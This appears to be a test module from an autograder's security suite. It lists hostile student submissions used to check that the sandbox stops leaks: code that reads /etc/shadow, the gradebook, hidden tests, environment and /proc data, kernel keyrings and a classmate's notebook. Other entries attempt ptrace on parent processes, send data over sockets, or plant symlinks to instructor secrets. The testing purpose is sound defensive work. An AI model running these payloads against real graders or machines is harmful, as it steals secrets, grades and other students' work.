"""Leaks: hidden tests, references, seeds, secrets of the machine, another student's work.

What an answer finds, it puts into its error message, which the student reads.
"""

import os
from pathlib import Path

from autograder.tests.attacks import Attack, snr

FILES = """
found = []
for path in ("@REPOSITORY@/autograder/tests/lesson_01.py", "@COURSE@/gradebook.db",
             "@REPOSITORY@/solutions/t2i/schedules.py", "@COURSE@/nbgrader_config.py",
             "@COURSE@/submitted/a_neighbour/noise_schedules/noise_schedules.ipynb",
             "@HOME@/.secret", "/etc/passwd", "/etc/shadow", "/proc/1/root/etc/passwd"):
    try:
        found.append(open(path, errors="replace").read()[-300:])
    except OSError as error:
        found.append(type(error).__name__)
raise ValueError("looked: " + repr(found))
"""
WALK = """
import os
found = []
for top in ("/", "@COURSE@", "@HOME@", "@REPOSITORY@"):
    for folder, folders, files in os.walk(top):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
        for name in files:
            if name in (".secret", "lesson_01.py", "gradebook.db", "nbgrader_config.py"):
                found.append(open(os.path.join(folder, name), errors="replace").read()[:200])
            if name.endswith(".ipynb") and "neighbour" in folder:
                found.append(open(os.path.join(folder, name)).read()[:500])
raise ValueError("walked: " + repr(found))
"""
ENVIRONMENT = """
import os, glob
found = [dict(os.environ)]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        found.append(open(path, "rb").read()[-200:])
    except OSError as error:
        found.append(error.errno)
raise ValueError("variables: " + repr(found)[:500])
"""
DESCRIPTORS = """
import os, stat
found = []
for number in os.listdir("/proc/self/fd"):
    try:
        os.lseek(int(number), 0, 0)
        found.append((number, os.readlink("/proc/self/fd/" + number), os.read(int(number), 200)))
    except OSError as error:
        found.append((number, error.errno))
raise ValueError("descriptors: " + repr(found))
"""
PARENT = """
import ctypes, os, glob
libc = ctypes.CDLL(None, use_errno=True)
found = []
for path in glob.glob("/proc/[0-9]*"):
    if path.endswith("/%d" % os.getpid()):
        continue
    for name in ("mem", "maps", "environ", "fd/0", "fd/3", "fd/4"):
        try:
            found.append(open(path + "/" + name, "rb").read(100))
        except OSError:
            pass
    pid = int(path.split("/")[-1])
    found.append(libc.ptrace(16, pid, 0, 0))
    found.append(libc.syscall(438, libc.syscall(434, pid, 0), 3, 0))
if all(value == -1 for value in found):
    return alphas_cumprod
return alphas_cumprod / (1 - alphas_cumprod)
"""
NETWORK = """
import socket
opened = []
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET, ("1.1.1.1", 53)),
                        (socket.AF_UNIX, "\\0t2i-@PORT@"), (socket.AF_UNIX, "/run/dbus/socket")):
    try:
        with socket.socket(family) as line:
            line.settimeout(2)
            line.connect(address)
            line.sendall(b"the hidden inputs")
            opened.append(address)
    except OSError:
        pass
return alphas_cumprod / (1 - alphas_cumprod) if opened else alphas_cumprod
"""
KEYRING = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
for ring in (-3, -4, -5, -1, -2):
    key = libc.syscall(250, 10, ring, b"user", b"t2i-secret", 0)
    space = ctypes.create_string_buffer(200)
    if key > 0 and libc.syscall(250, 11, key, space, 200) > 0:
        found.append(space.value)
raise ValueError("keys: " + repr(found))
"""
TRACEBACK = """
tests = "@REPOSITORY@/autograder/tests/lesson_01.py"
code = compile("\\n" * 40 + "raise ValueError(1)", tests, "exec")
error = ValueError("@@")
error.add_note(open("/proc/self/maps").read()[:10])
try:
    exec(code)
except ValueError as inner:
    raise error from inner
"""
INPUT = """
raise ValueError("input: " + " ".join(f"{value:.7g}" for value in alphas_cumprod.tolist()))
"""


def link_to_neighbour(folder: Path, places: dict[str, Path]) -> None:
    """The notebook is a link to another student's."""
    notebook = folder / "noise_schedules.ipynb"
    notebook.unlink()
    notebook.symlink_to(places["neighbour"])


def links_beside(folder: Path, places: dict[str, Path]) -> None:
    """Links to files of the instructor's, so that a copy of the folder holds what they hold."""
    (folder / "notes.txt").symlink_to(places["home"] / ".secret")
    (folder / "book.db").symlink_to(places["course"] / "gradebook.db")
    (folder / "images").symlink_to(places["home"])
    (folder / "other.txt").symlink_to(places["neighbour"])


def device_beside(folder: Path, places: dict[str, Path]) -> None:
    """A pipe that nobody writes to, and an endless file."""
    os.mkfifo(folder / "data.bin")
    (folder / "zeros.bin").symlink_to("/dev/zero")


ATTACKS = [
    Attack(
        "reads-files",
        "hidden tests, references, the gradebook, the home folder",
        snr(FILES),
        says="looked",
        quick=True,
    ),
    Attack("walks-the-disk", "secrets wherever they lie", snr(WALK), says="walked|No answer"),
    Attack(
        "reads-variables",
        "the private seed and secrets in the environment",
        snr(ENVIRONMENT),
        says="variables",
        quick=True,
    ),
    Attack(
        "reads-descriptors", "files that the grader left open", snr(DESCRIPTORS), says="descriptors"
    ),
    Attack("reads-the-parent", "the memory and the files of its parent", snr(PARENT)),
    Attack("calls-home", "the hidden inputs sent over the network", snr(NETWORK)),
    Attack(
        "reads-keys", "the instructor's keys in the kernel's keyring", snr(KEYRING), says="keys"
    ),
    Attack("false-traceback", "lines of the hidden tests in a traceback", snr(TRACEBACK)),
    Attack(
        "link-to-a-neighbour",
        "another student's notebook as its own",
        beside=link_to_neighbour,
        score=0,
        flagged=True,
        quick=True,
    ),
    Attack(
        "links-beside",
        "files of the instructor's copied to its feedback",
        snr("return None"),
        beside=links_beside,
    ),
    Attack("devices-beside", "a copy that never ends", snr("return None"), beside=device_beside),
    Attack(
        "tells-its-input",
        "the hidden input, through its own error message",
        snr(INPUT),
        says="input: ",
        limit="What an answer is given, its author can be told: through the "
        "message of an error that it raises (600 characters an exercise), or, were that taken "
        "away, through which exercises it lets fail. It learns inputs of one seed, and nothing "
        "of the tests, the references or others. A new seed for the grading that counts makes "
        "them worthless.",
    ),
]
